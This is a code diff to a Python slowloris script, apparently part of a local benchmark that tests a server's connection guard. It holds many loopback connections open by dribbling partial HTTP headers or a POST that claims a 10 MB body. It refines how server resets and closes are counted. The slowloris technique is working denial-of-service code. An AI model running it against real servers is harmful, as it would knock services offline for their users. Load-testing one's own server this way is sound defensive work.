@@ -22,11 +22,15 @@ from smtp_attacker import raise_fd_limit, report_until_sigterm
 
 @dataclass
 class Status:
-    held: int = 0  # connections open now
+    held: int = 0  # connections open now (connected; the server may not have accepted them yet)
     peak_held: int = 0
-    opened: int = 0
+    opened: int = 0  # connects that completed
+    # Every connection the server ended: reset_at_connect plus the ones it closed or reset after.
     closed_by_server: int = 0
-    connect_errors: int = 0
+    # A reset that reached the socket before connect() returned: the guard turning a newcomer
+    # away at accept() (http/listener.py) with SO_LINGER 0. The server's closing all the same.
+    reset_at_connect: int = 0
+    connect_errors: int = 0  # any other failure to connect (refused, timed out, no address)
 
     def line(self) -> str:
         return json.dumps({**asdict(self), "time": time.time()})
@@ -36,40 +40,45 @@ async def slowloris(n: int, args: argparse.Namespace, status: Status) -> None:
     source = f"127.0.0.{2 + n // args.per_source}"
     await asyncio.sleep(n * args.ramp / max(1, args.connections))  # spread the connects
     while True:
-        writer = None
-        held = False
         try:
             reader, writer = await asyncio.open_connection("127.0.0.1", args.port, local_addr=(source, 0))
+        except ConnectionResetError:
+            status.reset_at_connect += 1
+            status.closed_by_server += 1
+        except OSError:
+            status.connect_errors += 1
+        else:
             status.opened += 1
-            held = True
             status.held += 1
             status.peak_held = max(status.peak_held, status.held)
-            if args.body_path:
-                writer.write(
-                    f"POST {args.body_path} HTTP/1.1\r\nHost: bench\r\nAuthorization: Bearer {args.api_key}\r\n"
-                    "Content-Type: application/json\r\nContent-Length: 10000000\r\n\r\n".encode()
-                )
-            elif not args.silent:
-                writer.write(b"GET /health HTTP/1.1\r\nHost: bench\r\nX-Slow: ")
-            while True:
-                if not args.silent:
-                    writer.write(b"x")
-                    await writer.drain()
-                with contextlib.suppress(TimeoutError):
-                    if not await asyncio.wait_for(
-                        reader.read(1024), args.interval * random.uniform(0.5, 1.5)
-                    ):
-                        break  # the server closed it
-        except OSError:
-            if not held:
-                status.connect_errors += 1
-        finally:
-            if held:
+            try:
+                await hold(reader, writer, args)
+            except OSError:
+                pass  # reset by the server
+            finally:
                 status.held -= 1
-                status.closed_by_server += 1
-            if writer is not None:
                 writer.close()
+            # Only now: a cancelled hold (SIGTERM) is the attacker leaving, not the server closing.
+            status.closed_by_server += 1
         await asyncio.sleep(args.retry)
+
+
+async def hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, args: argparse.Namespace) -> None:
+    """Dribble on a connected socket until the server closes it (returns) or resets it (OSError)."""
+    if args.body_path:
+        writer.write(
+            f"POST {args.body_path} HTTP/1.1\r\nHost: bench\r\nAuthorization: Bearer {args.api_key}\r\n"
+            "Content-Type: application/json\r\nContent-Length: 10000000\r\n\r\n".encode()
+        )
+    elif not args.silent:
+        writer.write(b"GET /health HTTP/1.1\r\nHost: bench\r\nX-Slow: ")
+    while True:
+        if not args.silent:
+            writer.write(b"x")
+            await writer.drain()
+        with contextlib.suppress(TimeoutError):
+            if not await asyncio.wait_for(reader.read(1024), args.interval * random.uniform(0.5, 1.5)):
+                return  # the server closed it
 
 
 async def main(args: argparse.Namespace) -> None:
